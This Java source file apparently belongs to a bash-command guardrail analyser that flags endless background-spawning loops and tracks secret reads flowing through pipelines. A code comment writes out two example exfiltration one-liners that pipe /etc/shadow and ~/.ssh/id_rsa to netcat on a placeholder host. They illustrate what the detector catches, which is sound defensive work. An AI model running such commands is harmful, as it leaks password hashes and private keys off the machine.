package io.clituner.guardrails.internal.analysis;

import io.clituner.guardrails.internal.expand.Arg;
import io.clituner.guardrails.internal.expand.Env;
import io.clituner.guardrails.internal.expand.Origin;
import io.clituner.guardrails.internal.expand.Value;
import io.clituner.guardrails.parse.Ast;
import io.clituner.guardrails.parse.Ast.Command;
import io.clituner.guardrails.parse.Ast.Compound;
import io.clituner.guardrails.parse.Ast.Script;
import io.clituner.guardrails.parse.Ast.Simple;
import java.util.ArrayList;
import java.util.List;

/**
 * Compound commands: loops (and endless loops that spawn background processes), {@code for}/{@code select} over
 * their words, and the rest of the compound forms (subshells, groups, conditionals, coprocesses).
 */
final class Compounds {
    private final Walker w;

    Compounds(Walker w) {
        this.w = w;
    }

    /**
     * A compound command: its redirections, its parts walked as bash runs them, and what flows on to the next
     * pipeline stage.
     */
    @SuppressWarnings("ReferenceEquality") // a new Stdin object, not an equal one, means the caller redirected it
    Stage walk(Compound k, Env env, Ctx ctx) {
        int readsBefore = w.state.secretReads;
        List<Redir> redirs = w.redirections.expandRedirects(k.redirects(), env, ctx);
        Stdin stdin = w.redirections.stdinFor(redirs, k.redirects(), env, ctx);
        Producers.Output out = walkParts(k, env, ctx, stdin);
        if (!redirs.isEmpty()) {
            Invocation pseudo = new Invocation(
                    List.of(),
                    redirs,
                    stdin,
                    w.s(ctx, k.start()),
                    w.e(ctx, k.end()),
                    ctx.speculative(),
                    null,
                    ctx.depth());
            w.rules.evaluate(pseudo, w.reporter);
        }
        // a loop fed by "< FILE" passes what it read on ("while read l; do echo $l; done < /etc/shadow | nc h 9"), and
        // a group that read a secret passes that reader on ("{ cat ~/.ssh/id_rsa; } | nc h 9")
        List<Invocation> passed = stdin != ctx.stdin() ? stdin.upstream() : List.of();
        if (w.state.secretReads > readsBefore && w.state.lastSecretSource != null) {
            passed = new ArrayList<>(passed);
            passed.add(w.state.lastSecretSource);
        }
        return new Stage(passed, out);
    }

    /** Walks the compound's parts by kind; returns what it prints (unknown text unless a subshell/group says). */
    private Producers.Output walkParts(Compound k, Env env, Ctx ctx, Stdin stdin) {
        Producers.Output out = new Producers.Output(null, ctx.stdin().origin().max(Origin.LOCAL));
        Ctx inner = ctx.withStdin(stdin);
        switch (k.kind()) {
            case SUBSHELL -> out = w.walkScript(k.parts().get(0), w.copyEnv(env), inner);
            case GROUP -> out = w.walkScript(k.parts().get(0), env, inner);
            case UNTIL -> loop(k, neverTrue(k.parts().get(0)), env, ctx, inner);
            case WHILE -> loop(k, infiniteCondition(k.parts().get(0)), env, ctx, inner);
            case IF, CASE -> {
                for (Ast.Word word : words(k)) {
                    w.current = ctx;
                    w.expander.expand(word, env);
                }
                walkAll(k, env, inner);
            }
            case FOR, SELECT -> walkFor(k, env, inner);
            case ARITH_FOR -> arithFor(k, env, ctx, inner);
            case COND, ARITH -> {
                w.current = ctx;
                for (Ast.Word word : words(k)) {
                    w.expander.expand(word, env);
                }
            }
            // the coprocess's output stays readable by the rest of the line (read <&"${COPROC[0]}"): judge it as
            // flowing on
            case COPROC -> out = w.walkScript(k.parts().get(0), w.copyEnv(env), inner.stage(stdin, true, true));
            default -> {}
        }
        return out;
    }

    private void walkAll(Compound k, Env env, Ctx inner) {
        for (Script s : k.parts()) {
            w.walkScript(s, env, inner);
        }
    }

    /** while/until: a loop that never ends and starts background processes is a spawn loop. */
    private void loop(Compound k, boolean endless, Env env, Ctx ctx, Ctx inner) {
        if (endless && spawnsInBackground(k.parts().get(1))) {
            w.report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
        }
        if (endless && LoopEffects.createsFilesUnpaced(k.parts().get(1))) {
            w.report(ctx, LoopEffects.FILE_LOOP, k.start(), k.end(), "endless loop creating a file on every pass");
        }
        walkAll(k, env, inner);
    }

    private void arithFor(Compound k, Env env, Ctx ctx, Ctx inner) {
        w.current = ctx;
        w.expander.expandString(words(k).get(0), env);
        String header = words(k).get(0).literal();
        boolean forever = header != null && header.replace(" ", "").equals(";;");
        if (forever && spawnsInBackground(k.parts().get(0))) {
            w.report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
        }
        if (forever && LoopEffects.createsFilesUnpaced(k.parts().get(0))) {
            w.report(ctx, LoopEffects.FILE_LOOP, k.start(), k.end(), "endless loop creating a file on every pass");
        }
        w.walkScript(k.parts().get(0), env, inner);
    }

    /** The words of a compound other than for/select (only those may omit them: "in" absent means "$@"). */
    private static List<Ast.Word> words(Compound k) {
        return java.util.Objects.requireNonNull(k.words(), "only for/select omit their words");
    }

    static boolean infiniteCondition(Script cond) {
        if (cond.items().size() != 1 || cond.items().get(0).pipelines().size() != 1) {
            return false;
        }
        List<Command> cmds = cond.items().get(0).pipelines().get(0).commands();
        if (cmds.size() != 1) {
            return false;
        }
        if (cmds.get(0) instanceof Compound k && k.kind() == Ast.Kind.ARITH) {
            String lit = words(k).get(0).literal();
            return lit != null && lit.trim().matches("[1-9][0-9]*");
        }
        if (!(cmds.get(0) instanceof Simple s) || s.words().isEmpty()) {
            return false;
        }
        String name = s.words().get(0).literal();
        return "true".equals(name)
                || ":".equals(name)
                || ("[".equals(name) && s.words().size() == 3);
    }

    /** An until-condition that never succeeds ({@code until false}). */
    static boolean neverTrue(Script cond) {
        if (cond.items().size() != 1 || cond.items().get(0).pipelines().size() != 1) {
            return false;
        }
        List<Command> cmds = cond.items().get(0).pipelines().get(0).commands();
        return cmds.size() == 1
                && cmds.get(0) instanceof Simple s
                && s.words().size() == 1
                && "false".equals(s.words().get(0).literal());
    }

    static boolean spawnsInBackground(Script body) {
        boolean bg = false;
        for (Ast.Item item : body.items()) {
            bg |= item.background();
            if (item.background()) {
                continue; // "sleep 1 &" limits nothing: only a foreground sleep, wait or read paces the loop
            }
            for (Ast.Pipeline p : item.pipelines()) {
                for (Command c : p.commands()) {
                    if (c instanceof Simple s && !s.words().isEmpty()) {
                        String n = s.words().get(0).literal();
                        if ("sleep".equals(n) || "wait".equals(n) || "read".equals(n)) {
                            return false;
                        }
                    }
                }
            }
        }
        return bg;
    }

    void walkFor(Compound k, Env env, Ctx ctx) {
        w.current = ctx;
        String name = java.util.Objects.requireNonNull(k.name(), "the parser gives for/select a variable name");
        List<String> values = new ArrayList<>();
        Origin origin = Origin.LITERAL;
        boolean known = true;
        if (k.words() == null) {
            List<String> pos = env.positional();
            if (pos == null) {
                known = false;
                origin = Origin.UNSET;
            } else {
                values.addAll(pos);
            }
        } else {
            for (Ast.Word word : k.words()) {
                for (Arg a : w.expander.expand(word, env)) {
                    values.add(a.text());
                    origin = origin.max(a.origin());
                    known &= a.resolved();
                }
            }
        }
        Script body = k.parts().get(0);
        Ctx inner = ctx.inLoop();
        if (known && ctx.loopDepth() == 0 && !values.isEmpty() && values.size() <= 8) {
            for (String v : values) {
                env.set(name, Value.of(v, origin));
                w.walkScript(body, env, inner);
            }
            return;
        }
        if (!values.isEmpty() && values.size() <= 64) {
            // the loop variable takes one of these values: keep one that matters most (the first unknown-free one)
            env.set(name, Value.of(values.get(0), origin));
            w.walkScript(body, env, inner);
            env.set(name, Value.unknown(origin.max(Origin.LOCAL)));
        } else {
            env.set(name, Value.unknown(origin.max(Origin.LOCAL)));
        }
        w.walkScript(body, env, inner);
    }
}
